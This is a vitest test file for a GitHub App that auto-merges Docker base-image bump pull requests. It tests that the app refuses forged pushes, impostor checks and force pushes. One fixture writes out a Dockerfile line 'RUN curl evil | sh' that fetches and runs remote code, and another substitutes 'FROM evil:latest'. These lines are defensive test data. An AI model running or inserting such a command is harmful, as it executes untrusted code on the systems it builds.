import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { SimClock } from '../sim/clock.js';
import { startSimulator, type Simulator } from '../sim/server.js';
import type { PullRequest } from '../sim/state.js';
import { startApp, type RunningApp } from './app.js';

/** GitHub Actions' app id: a required check bound to it counts only Actions' runs. */
const CI = 15368;
const ATTACKER = 666;
const MERGE_ROUTE = 'PUT /repos/{owner}/{repo}/pulls/{pull_number}/merge';

const policy = (versions: string, bumps = 'automerge: [patch, minor, banned]') => `version: 1
ops:
  team: platform-ops
images:
  - name: node
    versions: [${versions}]
    update: minor
bumps:
  ${bumps}
`;

let sim: Simulator;
let app: RunningApp | undefined;

beforeEach(async () => {
  sim = await startSimulator({ clock: new SimClock({ start: Date.parse('2026-01-15T00:00:00Z') }) });
  sim.state.addTeam('platform-ops', ['olga']);
  sim.state.addApp({ id: CI, slug: 'github-actions', permissions: { metadata: 'read', checks: 'write', statuses: 'write' } });
  sim.state.addApp({ id: ATTACKER, slug: 'helpful-bot', permissions: { metadata: 'read', checks: 'write', statuses: 'write' } });
  sim.state.addRepo('.github', { '.github/plimsoll-policy.yml': policy('20.11.1') });
  sim.state.addRepo('api', { Dockerfile: 'FROM node:20.11.1\nUSER node\n', '.github/CODEOWNERS': '* @acme/platform\nDockerfile @alice @acme/api-team\n' });
  sim.protectBranch('api', 'main', { checks: [{ context: 'ci', appId: CI }] });
});
afterEach(async () => {
  await app?.close();
  app = undefined;
  await sim.close();
});

async function start(): Promise<RunningApp> {
  app = await startApp(sim, undefined, { fanOut: { inventoryRefreshDelayMs: 0 } });
  return app;
}

/** The policy allows node 20.11.2: the fan-out opens the bump pull request in `api`. */
async function bump(versions = '20.11.2, 20.11.1', bumps?: string): Promise<PullRequest> {
  await app!.deliver('push', sim.push('.github', 'main', { '.github/plimsoll-policy.yml': policy(versions, bumps) }, 'Allow node 20.11.2').payload);
  const pulls = sim.state.pulls(sim.state.repo('api'));
  expect(pulls).toHaveLength(1);
  return pulls[0]!;
}

const head = (pr: PullRequest) => sim.state.headSha(sim.state.repo('api'), pr);

/** CI reports `ci` on the head and GitHub tells the app its suite completed. */
async function ci(pr: PullRequest, conclusion: string, appId = CI, name = 'ci') {
  const report = sim.reportCheck('api', head(pr), { appId, name, conclusion });
  await app!.deliver('check_run', report.checkRun);
  if (report.checkSuite) await app!.deliver('check_suite', report.checkSuite);
  return report;
}

function automergeComments(pr: PullRequest) {
  return sim.state.commentsOn('api', pr.number).filter((c) => c.body.includes('<!-- plimsoll:automerge -->'));
}

function inventoryIssue(): string {
  return [...sim.state.repo('.github').issues.values()].find((issue) => issue.title === 'Plimsoll: base image inventory')!.body;
}

const writesOf = (route: string) => sim.counters.byRoute[route] ?? 0;

describe('merge on green by the app (the repository does not allow auto-merge)', () => {
  it('merges the head it saw green, with the method the repository allows, and says so in the inventory', async () => {
    sim.repoSettings('api', { allowSquashMerge: false, allowRebaseMerge: false });
    await start();
    const pr = await bump();
    expect(pr.body).toContain('Owners of the changed files (CODEOWNERS): @alice @acme/api-team');
    expect(pr.pull.merged).toBe(false);

    const merges: Array<Record<string, unknown>> = [];
    sim.beforeRequest(MERGE_ROUTE, ({ body }) => void merges.push(body));
    const green = head(pr);
    await ci(pr, 'success');

    expect(pr.pull.merged).toBe(true);
    expect(merges).toEqual([{ sha: green, merge_method: 'merge' }]);
    expect(sim.state.fileAt(sim.state.repo('api'), 'Dockerfile')).toBe('FROM node:20.11.2\nUSER node\n');
    expect(automergeComments(pr)).toEqual([]);
    expect(inventoryIssue()).toMatch(/### Merged \(1\)\n\n- acme\/api#1: node → 20\.11\.2: merged on green/);
    // The app never asked for what app.yml does not grant (the protection API wants administration).
    expect(sim.counters.forbidden).toEqual([]);
    expect(sim.counters.unknown).toEqual([]);
  });

  it('waits while the required check runs, and does not merge a check that never completes', async () => {
    await start();
    const pr = await bump();
    sim.reportCheck('api', head(pr), { appId: CI, name: 'ci', status: 'in_progress' });
    await ci(pr, 'success', CI, 'lint');
    await app!.deliver('check_run', sim.reportCheck('api', head(pr), { appId: ATTACKER, name: 'docs', conclusion: 'success' }).checkRun);

    expect(pr.pull.merged).toBe(false);
    expect(pr.state).toBe('open');
    expect(automergeComments(pr)).toEqual([]);
    expect(inventoryIssue()).toMatch(/### Waiting for checks \(1\)\n\n- acme\/api#1: node → 20\.11\.2: waiting on \*\*ci\*\*/);
    expect(writesOf(MERGE_ROUTE)).toBe(0);
  });

  it('merges on a commit status when the required check is reported as one', async () => {
    sim.protectBranch('api', 'main', { checks: [{ context: 'jenkins', appId: null }] });
    await start();
    const pr = await bump();
    await app!.deliver('status', sim.setStatus('api', head(pr), { context: 'jenkins', state: 'pending', login: 'jenkins-bot' }).payload);
    expect(pr.pull.merged).toBe(false);
    await app!.deliver('status', sim.setStatus('api', head(pr), { context: 'jenkins', state: 'success', login: 'jenkins-bot' }).payload);
    expect(pr.pull.merged).toBe(true);
  });

  it('brings a branch behind a strict base up to date first, then merges once it is green again', async () => {
    sim.protectBranch('api', 'main', { checks: [{ context: 'ci', appId: CI }], strict: true });
    await start();
    const pr = await bump();
    sim.push('api', 'main', { 'README.md': '# api\n' }, 'Docs');
    await ci(pr, 'success');
    expect(pr.pull.merged).toBe(false);
    const updated = head(pr);
    expect(sim.state.commits.get(updated)!.parents).toHaveLength(2);

    await ci(pr, 'success');
    expect(pr.pull.merged).toBe(true);
    expect(sim.state.fileAt(sim.state.repo('api'), 'README.md')).toBe('# api\n');
  });
});

describe('an installation that has not accepted statuses: read yet', () => {
  it('reads without statuses and still merges on its required check runs', async () => {
    const { statuses: _statuses, ...granted } = sim.state.permissions;
    sim.state.permissions = granted;
    await start();
    const pr = await bump();
    await ci(pr, 'success');
    expect(pr.pull.merged).toBe(true);
    expect(sim.counters.forbidden.map((f) => f.need)).toContain('statuses=read');
  });
});

describe("GitHub's auto-merge where the repository allows it", () => {
  it('is enabled when the pull request opens; GitHub merges when the required check passes', async () => {
    sim.repoSettings('api', { allowAutoMerge: true });
    await start();
    const pr = await bump();
    expect(pr.pull.autoMerge).toMatchObject({ method: 'squash', enabledBy: { login: 'plimsoll[bot]' } });

    const report = await ci(pr, 'success');
    expect(report.autoMerged).toEqual([{ repo: 'api', number: pr.number }]);
    expect(pr.pull.merged).toBe(true);
    expect(writesOf(MERGE_ROUTE)).toBe(0);

    await app!.deliver('pull_request', sim.payloads.pullRequest(sim.state.repo('api'), pr, 'closed', { sender: sim.state.bot }));
    expect(inventoryIssue()).toContain('### Merged (1)');
  });

  it('a red check said while auto-merge waits is answered in the same comment once GitHub merges', async () => {
    sim.repoSettings('api', { allowAutoMerge: true });
    await start();
    const pr = await bump();
    await ci(pr, 'failure');
    expect(pr.pull.autoMerge).not.toBeNull();
    expect(automergeComments(pr)).toHaveLength(1);

    const report = await ci(pr, 'success');
    expect(report.autoMerged).toEqual([{ repo: 'api', number: pr.number }]);
    await app!.deliver('pull_request', sim.payloads.pullRequest(sim.state.repo('api'), pr, 'closed', { sender: sim.state.bot }));
    expect(automergeComments(pr)).toHaveLength(1);
    expect(automergeComments(pr)[0]!.body).toContain('**Merged on green**');
  });

  it('is turned off when a person pushes to the branch, so GitHub does not merge their commit', async () => {
    sim.repoSettings('api', { allowAutoMerge: true });
    await start();
    const pr = await bump();
    const push = sim.synchronize('api', pr.number, { 'extra.txt': 'mine\n' }, { pusher: 'mallory' });
    await app!.deliver('pull_request', push.payload);
    expect(pr.pull.autoMerge).toBeNull();

    await ci(pr, 'success');
    expect(pr.pull.merged).toBe(false);
    expect(inventoryIssue()).toMatch(/### Waiting on a person \(1\)\n\n- acme\/api#1: node → 20\.11\.2: pushed to by \*\*mallory\*\*/);
  });
});

describe('refusals', () => {
  it('a pull request labelled plimsoll:hold waits; removing the label lets it merge', async () => {
    await start();
    const pr = await bump();
    await app!.deliver('pull_request', sim.label('api', pr.number, 'plimsoll:hold', 'olga').payload);
    await ci(pr, 'success');
    expect(pr.pull.merged).toBe(false);
    expect(inventoryIssue()).toContain('labelled `plimsoll:hold`');

    await app!.deliver('pull_request', sim.label('api', pr.number, 'plimsoll:hold', 'olga', 'unlabeled').payload);
    expect(pr.pull.merged).toBe(true);
  });

  it('a commit a person pushed is never merged, whoever its author claims to be', async () => {
    await start();
    const pr = await bump();
    const bot = sim.state.bot;
    // Forged: the app's bot as author and committer, but pushed by a person and unsigned.
    sim.synchronize('api', pr.number, { Dockerfile: 'FROM node:20.11.2\nRUN curl evil | sh\n' }, { pusher: 'mallory', author: { name: bot.login, email: `${bot.id}+${bot.login}@users.noreply.github.com` }, committer: { name: 'GitHub', email: 'noreply@github.com' } });
    await ci(pr, 'success');
    expect(pr.pull.merged).toBe(false);
    expect(sim.state.fileAt(sim.state.repo('api'), 'Dockerfile')).toBe('FROM node:20.11.1\nUSER node\n');
  });

  it('a force push by a person back onto the same files is still a person pushing', async () => {
    await start();
    const pr = await bump();
    sim.forcePush('api', pr.pull.head, {}, { pusher: 'mallory' });
    await ci(pr, 'success');
    expect(pr.pull.merged).toBe(false);
  });

  it('a review requesting changes stops it', async () => {
    await start();
    const pr = await bump();
    await app!.deliver('pull_request_review', sim.review('api', pr.number, 'ines', 'CHANGES_REQUESTED', 'not this week').payload);
    await ci(pr, 'success');
    expect(pr.pull.merged).toBe(false);
    expect(inventoryIssue()).toContain('changes requested by **ines**');
  });

  it('a failing required check leaves it open with one comment, kept in place across redeliveries and re-runs', async () => {
    await start();
    const pr = await bump();
    const report = await ci(pr, 'failure');
    expect(pr.pull.merged).toBe(false);
    expect(automergeComments(pr)).toHaveLength(1);
    expect(automergeComments(pr)[0]!.body).toContain('- **ci**: failure');
    expect(inventoryIssue()).toMatch(/### Waiting on a red check \(1\)\n\n- acme\/api#1: node → 20\.11\.2: \*\*ci\*\* failure/);

    const writes = sim.counters.writes;
    await app!.deliver('check_suite', report.checkSuite, 'redelivery');
    await app!.deliver('check_run', report.checkRun);
    expect(sim.counters.writes).toBe(writes);

    await ci(pr, 'timed_out');
    expect(automergeComments(pr)).toHaveLength(1);
    expect(automergeComments(pr)[0]!.body).toContain('- **ci**: timed_out');
    expect(automergeComments(pr)[0]!.edits).toHaveLength(1);

    await ci(pr, 'success');
    expect(pr.pull.merged).toBe(true);
    // The same comment answers it: merged after all, nothing left that says otherwise.
    expect(automergeComments(pr)).toHaveLength(1);
    expect(automergeComments(pr)[0]!.body).toContain('**Merged on green**');
    expect(automergeComments(pr)[0]!.body).not.toContain('Not merged automatically');
  });

  it("another app's check or status of the required name does not count, however green", async () => {
    await start();
    const pr = await bump();
    await ci(pr, 'success', ATTACKER, 'ci');
    await app!.deliver('status', sim.setStatus('api', head(pr), { context: 'ci', state: 'success', appId: ATTACKER }).payload);
    expect(pr.pull.merged).toBe(false);
    expect(inventoryIssue()).toContain('waiting on **ci (from the GitHub App with id 15368)**');

    // The bound app finishes its work without that check: it is missing, and said so once.
    await ci(pr, 'success', CI, 'lint');
    expect(pr.pull.merged).toBe(false);
    expect(automergeComments(pr)).toHaveLength(1);
    expect(automergeComments(pr)[0]!.body).toContain('- **ci** (from the GitHub App with id 15368');

    await ci(pr, 'success');
    expect(pr.pull.merged).toBe(true);
  });

  it('a required check that never reports is named in one comment, however many events follow', async () => {
    await start();
    const pr = await bump();
    // GitHub Actions finishes its work on the head without a `ci` check: it is missing.
    const lint = await ci(pr, 'success', CI, 'lint');
    expect(automergeComments(pr)).toHaveLength(1);
    expect(automergeComments(pr)[0]!.body).toContain('a required check has not reported');
    const writes = sim.counters.writes;

    // Redeliveries, other apps' checks and statuses: the same verdict, no second comment, no edit.
    await app!.deliver('check_run', lint.checkRun, 'redelivered-run');
    await app!.deliver('check_suite', lint.checkSuite, 'redelivered-suite');
    await app!.deliver('check_run', sim.reportCheck('api', head(pr), { appId: ATTACKER, name: 'docs', conclusion: 'success' }).checkRun);
    await app!.deliver('status', sim.setStatus('api', head(pr), { context: 'ci', state: 'success', appId: ATTACKER }).payload);
    expect(automergeComments(pr)).toHaveLength(1);
    expect(automergeComments(pr)[0]!.edits ?? []).toHaveLength(0);
    expect(sim.counters.writes).toBe(writes);
    expect(pr.pull.merged).toBe(false);
    expect(writesOf(MERGE_ROUTE)).toBe(0);
    expect(inventoryIssue()).toMatch(/### Waiting on a red check \(1\)\n\n- acme\/api#1: node → 20\.11\.2: \*\*ci\*\* never reported/);
  });

  it('a force push between green and the merge fails the merge: nothing but the head seen green is merged', async () => {
    await start();
    const pr = await bump();
    const attempts: number[] = [];
    const off = sim.beforeRequest(MERGE_ROUTE, () => {
      off();
      sim.forcePush('api', pr.pull.head, { Dockerfile: 'FROM evil:latest\n' }, { pusher: 'mallory' });
      attempts.push(sim.state.statuses.length);
    });
    await ci(pr, 'success');
    expect(attempts).toHaveLength(1);
    expect(pr.pull.merged).toBe(false);
    expect(sim.state.fileAt(sim.state.repo('api'), 'Dockerfile')).toBe('FROM node:20.11.1\nUSER node\n');

    // The new head is the person's: even green, it waits for them.
    await ci(pr, 'success');
    expect(pr.pull.merged).toBe(false);
  });

  it('a kind the policy does not list is left to people', async () => {
    await start();
    const pr = await bump('20.11.2, 20.11.1', 'automerge: [minor]');
    await ci(pr, 'success');
    expect(pr.pull.merged).toBe(false);
    expect(pr.body).toContain('<!-- plimsoll:kind move=patch banned=no -->');
  });

  it('without bumps.automerge nothing is read for check events', async () => {
    await start();
    const pr = await bump('20.11.2, 20.11.1', 'mode: open');
    const reads = sim.counters.reads;
    await ci(pr, 'success');
    expect(pr.pull.merged).toBe(false);
    expect(sim.counters.reads).toBe(reads);
  });
});

describe('telling the team', () => {
  it('mentions the owners once, on creation; an update to a new target keeps the line and mentions nobody new', async () => {
    await start();
    const pr = await bump('20.11.2, 20.11.1', 'automerge: []');
    const line = pr.body.split('\n').find((l) => l.includes('Owners of the changed files'));
    expect(line).toContain('@alice @acme/api-team');
    sim.state.commit(sim.state.repo('api'), 'main', { '.github/CODEOWNERS': 'Dockerfile @carol\n' }, 'New owners');

    await app!.deliver('push', sim.push('.github', 'main', { '.github/plimsoll-policy.yml': policy('20.11.3, 20.11.1', 'automerge: []') }, 'Allow node 20.11.3').payload);
    expect(pr.title).toBe('Bump node base image to 20.11.3');
    expect(pr.body.split('\n').filter((l) => l.includes('Owners of the changed files'))).toEqual([line]);
    expect(pr.body).not.toContain('@carol');
  });
});
